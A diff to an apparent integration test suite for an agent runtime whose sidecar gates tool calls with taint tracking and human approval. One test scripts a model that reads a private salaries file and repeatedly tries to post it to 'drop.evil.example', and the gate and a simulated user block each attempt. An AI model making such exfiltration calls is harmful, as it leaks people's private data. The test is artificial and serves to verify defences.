@@ -4,6 +4,8 @@
 // transcript are checked.
 import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
+import { Client } from "@modelcontextprotocol/sdk/client/index.js";
+import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
 import { parse as parseYaml } from "yaml";
 import { afterEach, describe, expect, it } from "vitest";
 import { startScriptedModelServer, type ScriptedModelServer, type ScriptStep } from "../model-server/scripted-model-server.ts";
@@ -21,7 +23,7 @@ allow = ["~/vault"]
 [stages.survey]
 mode = "autonomous"
 model = { models = [{ provider = "anthropic", model = "claude-test" }], parameters = { temperature = 0.1, seed = 7 } }
-available_tools = ["read_file", "list_dir", "send_email"]
+available_tools = ["read_file", "list_dir", "http_post", "web_search", "context_write"]
 max_iterations = 8
 system_prompt = "Survey the notes."
 context = { regions = ["task"] }
@@ -52,7 +54,7 @@ function makeTree(grant: boolean): Tree {
   writeFileSync(join(dir, "home", "vault", "salaries.txt"), "alice 120k\n");
   // Taint tracking with the grant: without it, nothing is stopped at the gate and no person is needed.
   writeFileSync(join(dir, "agent.leviath"), grant ? AGENT.replace("[stages.survey]", "[security]\ntaint_tracking = true\n\n[stages.survey]") : AGENT);
-  writeFileSync(join(dir, "config.toml"), `[tool_permissions]\nsend_email = "allow"\n${grant ? '[agent_read_paths.digest]\nallow = ["~/vault"]\n' : ""}`);
+  writeFileSync(join(dir, "config.toml"), `[tool_permissions]\nhttp_post = "allow"\n${grant ? '[agent_read_paths.digest]\nallow = ["~/vault"]\n' : ""}`);
   const imported = leviath(["import", join(dir, "agent.leviath")]);
   expect(imported.status, imported.stderr).toBe(0);
   const spec = (parseYaml(imported.stdout) as { spec: unknown }).spec;
@@ -104,6 +106,18 @@ async function waitForStatus(proc: SidecarProcess, ok: (s: { runtimeWarnings?: s
   throw new Error("the sidecar's status never showed the runtime's warnings");
 }
 
+/** The sidecar's MCP tools/list in a stage (entered at the sidecar first), with the official MCP client. */
+async function listServedTools(sc: SidecarProcess, stage: string): Promise<string[]> {
+  expect((await post(`${sc.url}/v1/stage`, { stage })).status).toBe(200);
+  const client = new Client({ name: "leviath-test", version: "1.0.0" });
+  await client.connect(new StreamableHTTPClientTransport(new URL(`${sc.url}/mcp`), { requestInit: { headers: { authorization: `Bearer ${sc.runtimeToken}` } } }));
+  try {
+    return (await client.listTools()).tools.map((t) => t.name);
+  } finally {
+    await client.close();
+  }
+}
+
 let sc: SidecarProcess | undefined;
 let model: ScriptedModelServer | undefined;
 afterEach(async () => {
@@ -144,7 +158,9 @@ describe("leviath agent", { timeout: 180_000 }, () => {
     expect(first["system"]).toContain("- digest: Enough has been read to write the digest");
     expect(first["temperature"]).toBe(0.1);
     expect(JSON.stringify(first["messages"])).toContain("Task: Digest the notes.\\n\\nInputs:\\n- ticket: OPS-12");
-    expect((first["tools"] as { name: string }[]).map((t) => t.name)).toEqual(["read_file", "list_dir", "send_email", "next_stage"]);
+    // Only what something executes: web_search and context_write (the stage lists them) have no executor, so they are not offered.
+    expect((first["tools"] as { name: string }[]).map((t) => t.name)).toEqual(["read_file", "list_dir", "http_post", "next_stage"]);
+    expect(r.stdout).toContain("[run] not offered, nothing executes them (neither the sidecar nor an MCP server of the policy): web_search, context_write");
     expect(toolResults(model, 1).map((b) => b.content)).toEqual(["notes.md", "ship the docs theme this week\n"]);
     // A refusal over MCP: the message is the result, the code and decision source come from the result's _meta.
     const outside = "[error] path '/etc/hostname' is outside the working directory and not in this agent's [read_paths]";
@@ -161,6 +177,12 @@ describe("leviath agent", { timeout: 180_000 }, () => {
     expect(decisions(tree, 1).map((d) => [d["tool_name"], d["decision"], d["from_stage"]])).toEqual([["stage", "stage", "survey"], ["submit_output", "allow", undefined]]);
     const status = await get<{ stage: { name: string } }>(`${sc.url}/v1/status`);
     expect(status.body.stage.name).toBe("digest");
+    // What the model was offered in each stage is exactly what the sidecar serves there (its MCP tools/list), plus
+    // next_stage, the runtime's own transition tool.
+    const offered = (n: number) => (model!.requests[n]!.body["tools"] as { name: string }[]).map((t) => t.name).filter((t) => t !== "next_stage");
+    const served = async (stage: string) => (await listServedTools(sc!, stage)).filter((t) => t !== "next_stage");
+    expect(await served("survey")).toEqual(offered(0));
+    expect(await served("digest")).toEqual(offered(3));
     // The transcript: readable, stage by stage, and no file contents at info.
     expect(r.stdout).toMatch(/\[run\] stage 'survey' \(index 0\): model anthropic\/claude-test, max_iterations 8/);
     expect(r.stdout).toMatch(/\[survey 1\/8\] → read_file \{"path":"notes.md"\}/);
@@ -174,7 +196,7 @@ describe("leviath agent", { timeout: 180_000 }, () => {
 
   it("stops an outbound call after a private read at the gate while the model insists, and says so in the transcript", async () => {
     const tree = makeTree(true);
-    const leak = { name: "send_email", args: { to: "drop@evil.example", body: "alice 120k" } };
+    const leak = { name: "http_post", args: { url: "https://drop.evil.example/in", body: "alice 120k" } };
     const script: ScriptStep[] = [
       { turn: { calls: [{ name: "read_file", args: { path: join(tree.dir, "home", "vault", "salaries.txt") } }] } },
       { turn: { text: "Sending it on.", calls: [leak] } },
@@ -186,17 +208,17 @@ describe("leviath agent", { timeout: 180_000 }, () => {
     model = await startScriptedModelServer(script);
     sc = await startSidecar(tree.sidecarArgs, { env: tree.env });
     // The person denies every mail and lets the (private) output through.
-    const person = startPerson(sc, (tool) => (tool === "send_email" ? "deny" : "allowOnce"));
+    const person = startPerson(sc, (tool) => (tool === "http_post" ? "deny" : "allowOnce"));
     const r = await runAgent(tree, sc, model, ["--log-level", "debug"]);
     person.stop();
     expect(r.code, r.stderr).toBe(0);
     expect(model.remaining()).toBe(0);
-    const denied = "[blocked] Tool 'send_email' would send data at private sensitivity, above its public clearance. Denied by user.";
+    const denied = "[blocked] Tool 'http_post' would send data at private sensitivity, above its public clearance. Denied by user.";
     for (const n of [2, 3, 4]) expect(toolResults(model, n)).toEqual([{ type: "tool_result", tool_use_id: expect.any(String), content: denied, is_error: true }]);
     // The gate's audit: the private read, then three blocks each denied, then the output allowed once (stage 1).
-    expect(gate(tree, 0).filter((e) => e["tool_name"] === "send_email").map((e) => e["decision_source"])).toEqual(["AutoBlock", "UserDenied", "AutoBlock", "UserDenied", "AutoBlock", "UserDenied"]);
+    expect(gate(tree, 0).filter((e) => e["tool_name"] === "http_post").map((e) => e["decision_source"])).toEqual(["AutoBlock", "UserDenied", "AutoBlock", "UserDenied", "AutoBlock", "UserDenied"]);
     expect(gate(tree, 1).map((e) => [e["tool_name"], e["decision_source"]])).toEqual([["submit_output", "AutoBlock"], ["submit_output", "UserAllowOnce"]]);
-    const sends = r.stdout.split("\n").filter((l) => l.includes("← send_email refused (gate-denied)"));
+    const sends = r.stdout.split("\n").filter((l) => l.includes("← http_post refused (gate-denied, user_denied)"));
     expect(sends).toHaveLength(3);
     expect(sends[0]).toContain(denied);
     expect(r.stdout).toMatch(/← read_file ran in the sidecar: 11 bytes, label private, context taint private/);
